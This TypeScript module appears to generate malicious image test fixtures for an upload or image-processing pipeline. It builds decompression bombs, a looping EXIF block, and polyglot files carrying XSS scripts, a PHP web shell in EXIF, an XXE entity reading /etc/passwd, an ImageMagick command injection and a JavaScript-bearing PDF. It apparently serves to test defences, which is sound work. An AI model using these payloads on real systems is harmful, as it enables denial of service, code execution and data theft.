import { createDeflate, crc32, deflateSync, inflateRawSync } from 'node:zlib';
import sharp from 'sharp';

/** Pictures that are meant to do harm, made byte by byte where the libraries refuse to. */

const MAGIC = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1');

function chunk(type: string, content: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), content]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(content.length);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
}

interface Format {
  width: number;
  height: number;
  bitDepth: 1 | 8 | 16;
  /** 0 grey, 2 RGB, 4 grey with alpha, 6 RGB with alpha. */
  colorType: 0 | 2 | 4 | 6;
  /** Whole before it can be shown: a decoder must hold it all. */
  interlaced?: boolean;
}

const CHANNELS = { 0: 1, 2: 3, 4: 2, 6: 4 };

/** A PNG of zeros, whose few bytes decode to as many pixels as wanted. */
export async function blankPng(format: Format): Promise<Buffer> {
  const { width, height, bitDepth, colorType, interlaced = false } = format;
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([bitDepth, colorType, 0, 0, interlaced ? 1 : 0], 8);
  const bitsOfRow = width * bitDepth * CHANNELS[colorType];
  // The seven passes of an interlaced one add a few bytes; what is too much is ignored.
  const bytes = height * (1 + Math.ceil(bitsOfRow / 8)) + (interlaced ? height * 8 : 0);
  const end = chunk('IEND', Buffer.alloc(0));
  return Buffer.concat([MAGIC, chunk('IHDR', header), chunk('IDAT', await packedZeros(bytes)), end]);
}

/** Compresses this many zero bytes, to about a thousandth of their size. */
export async function packedZeros(count: number): Promise<Buffer> {
  const deflate = createDeflate({ level: 9 });
  const packed = deflate.toArray();
  const piece = Buffer.alloc(1024 * 1024);
  for (let left = count; left > 0; left -= piece.length) {
    const more = deflate.write(piece.subarray(0, Math.min(left, piece.length)));
    if (!more) await new Promise((resolve) => void deflate.once('drain', resolve));
  }
  deflate.end();
  return Buffer.concat((await packed) as Buffer[]);
}

/** How a JPEG brings its pixels: at once, in a scan for each channel, or at first only roughly. */
type Scans = 'one' | 'one for each channel' | 'progressive';

/** A grey JPEG of zeros in three channels, whose few bytes decode to as many pixels as wanted. */
export function blankJpeg(width: number, height: number, scans: Scans): Buffer {
  const channels = [1, 2, 3];
  const segment = (marker: number, ...content: number[]): Buffer => {
    const head = Buffer.from([0xff, marker, 0, 0]);
    head.writeUInt16BE(content.length + 2, 2);
    return Buffer.concat([head, Buffer.from(content)]);
  };
  // One code of one bit, for a block that is as the one before and for a block that ends.
  const codes = (kind: number): Buffer => segment(0xc4, kind, 1, ...Array<number>(16).fill(0));
  const size = [height >> 8, height & 255, width >> 8, width & 255];
  const frame = [8, ...size, channels.length, ...channels.flatMap((channel) => [channel, 0x11, 0])];
  const scan = (of: number[], bitsOfBlock: number, last: number): Buffer[] => {
    const bits = Math.ceil(width / 8) * Math.ceil(height / 8) * of.length * bitsOfBlock;
    const head = segment(0xda, of.length, ...of.flatMap((channel) => [channel, 0]), 0, last, 0);
    return [head, Buffer.alloc(Math.ceil(bits / 8))];
  };
  const pixels = {
    one: scan(channels, 2, 63),
    'one for each channel': channels.flatMap((channel) => scan([channel], 2, 63)),
    progressive: scan(channels, 1, 0),
  };
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    segment(0xdb, 0, ...Array<number>(64).fill(1)),
    segment(scans === 'progressive' ? 0xc2 : 0xc0, ...frame),
    codes(0x00),
    codes(0x10),
    ...pixels[scans],
    Buffer.from([0xff, 0xd9]),
  ]);
}

// As sharp writes it for `create: { width: 10_000, height: 10_000, … }`, in some seconds and 1.5 GB; deflated.
const GREY_AVIF = `
  Y2BgkEkrqSxILMtMYwCC3Mw0QxA7NzMRxL+Wm1qSyAABihkpOUVQNkNBZnIJAxpQyszJTwYxXBwYGIEQBH5BaQbWJCChnJmZB7YGLCoK5KQy
  QXmJZQaGICZfQWZJLlxJWGZBUQGQtsgsSM4H0jyJZYbOjfI8IHmRzOKCVIjh6gIQzCBQkFmRCRJh5uDgAFJimQW5MPcDncTcyMQMdEpWbkpi
  iRADF7f893T+ObaLmKR4OYwucAmfO97eGnn///9H5w8wMPieP6UXdVWez5dFyrl1zhPleM7/HBm8YrE7nhtoz9/bdVVB+4fIjbzTTFtfxoRt
  NdC9F2pl0O6352mTw8QDuYmNjusrszefn/E1Xpsr95qQ/EqHwW1cOEHjvp1yEHg420qTb3GShlnCwmOnzog6C6uxOunmxe4MlT6dovtnnt7C
  1FcHGO4uU/6dFRUuu0oifR2vxmgojobiYAnFCKq580pA0rWD5+JvLzZK4L3z4mzFUDSZ+qG88meuycy1x6bd2Nm+jOtjw1IA`;

/** An AVIF of 100 megapixels in 1.6 kB. */
export function hugeAvif(): Buffer {
  return inflateRawSync(Buffer.from(GREY_AVIF, 'base64'));
}

/** A picture with a chunk of text or profile that unpacks to a hundred megabytes. */
export async function pngWithBombIn(kind: 'zTXt' | 'iCCP' | 'iTXt'): Promise<Buffer> {
  const picture = await sharp({ create: { width: 40, height: 30, channels: 3, background: 'teal' } })
    .png()
    .toBuffer();
  const heads = { zTXt: 'Comment\0\0', iCCP: 'profile\0\0', iTXt: 'XML:com.adobe.xmp\0\x01\0\0\0' };
  const bomb = chunk(kind, Buffer.concat([Buffer.from(heads[kind], 'latin1'), await packedZeros(100_000_000)]));
  return Buffer.concat([picture.subarray(0, 33), bomb, picture.subarray(33)]);
}

/** A JPEG with this segment behind its start. */
export function withSegment(jpeg: Buffer, marker: number, content: Buffer): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(content.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), head, content, jpeg.subarray(2)]);
}

/** An EXIF block whose directories point at themselves, behind the end, and claim to be endless. */
export function brokenExif(): Buffer {
  const block = Buffer.alloc(200);
  block.write('Exif\0\0MM\0*', 'latin1');
  block.writeUInt32BE(8, 10);
  block.writeUInt16BE(65_535, 14);
  for (let entry = 16; entry + 12 < block.length; entry += 12) {
    block.writeUInt16BE(0x8769, entry);
    block.writeUInt16BE(4, entry + 2);
    block.writeUInt32BE(0xffff_ffff, entry + 4);
    block.writeUInt32BE(entry % 24 === 16 ? 8 : 0xffff_fff0, entry + 8);
  }
  return block;
}

const PAYLOAD = '<script>window.__ran = 1; alert(1)</script>';

/** Files that are a picture and something else besides, or only say that they are a picture. */
export async function polyglots(): Promise<Record<string, { name: string; content: Buffer; isPicture: boolean }>> {
  const canvas = sharp({ create: { width: 60, height: 40, channels: 3, background: 'coral' } });
  const [jpeg, png, gif, webp] = await Promise.all([
    canvas.clone().jpeg().toBuffer(),
    canvas.clone().png().toBuffer(),
    canvas.clone().gif().toBuffer(),
    canvas.clone().webp().toBuffer(),
  ]);
  const zip = Buffer.concat([Buffer.from('PK\x03\x04'), deflateSync('x'), Buffer.from('PK\x05\x06'), Buffer.alloc(18)]);
  const html = Buffer.from(`<!doctype html><html>${PAYLOAD}</html>`);
  const picture = (name: string, ...content: Buffer[]) => ({ name, content: Buffer.concat(content), isPicture: true });
  const other = (name: string, content: string | Buffer) => ({ name, content: Buffer.from(content), isPicture: false });
  return {
    'GIF and JavaScript': picture('a.js', gif, Buffer.from('/*x*/=1;alert(document.cookie)')),
    'JPEG and HTML in a comment': picture('a.html', withSegment(jpeg, 0xfe, html)),
    'JPEG and HTML behind its end': picture('a.htm', jpeg, html),
    'JPEG and PHP in its EXIF': picture(
      'a.php',
      withSegment(jpeg, 0xe1, Buffer.from('Exif\0\0<?php system($_GET[0]); ?>')),
    ),
    'PNG and ZIP': picture('a.zip', png, zip),
    'PNG and HTML in a text': picture(
      'a.xhtml',
      png.subarray(0, 33),
      chunk('tEXt', Buffer.from(`Comment\0${PAYLOAD}`)),
      png.subarray(33),
    ),
    'WebP and a program': picture('a.exe', webp, Buffer.from('MZ\x90\0')),
    PDF: other('a.jpg', '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'),
    SVG: other('b.jpg', `<svg xmlns="http://www.w3.org/2000/svg">${PAYLOAD}</svg>`),
    'SVG with an entity': other('c.png', `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>`),
    HTML: other('d.png', html),
    'HTML that starts like a GIF': other('e.gif', `GIF89a${PAYLOAD}`),
    'ImageMagick script': other('f.jpg', 'push graphic-context\nfill \'url(https://x/"|id; ")\'\npop graphic-context'),
    ZIP: other('g.jpg', zip),
    'shell script': other('h.jpg', '#!/bin/sh\nid\n'),
    HEIC: other(
      'i.heic',
      Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from('ftypheic\0\0\0\0heicmif1'), Buffer.alloc(64)]),
    ),
  };
}
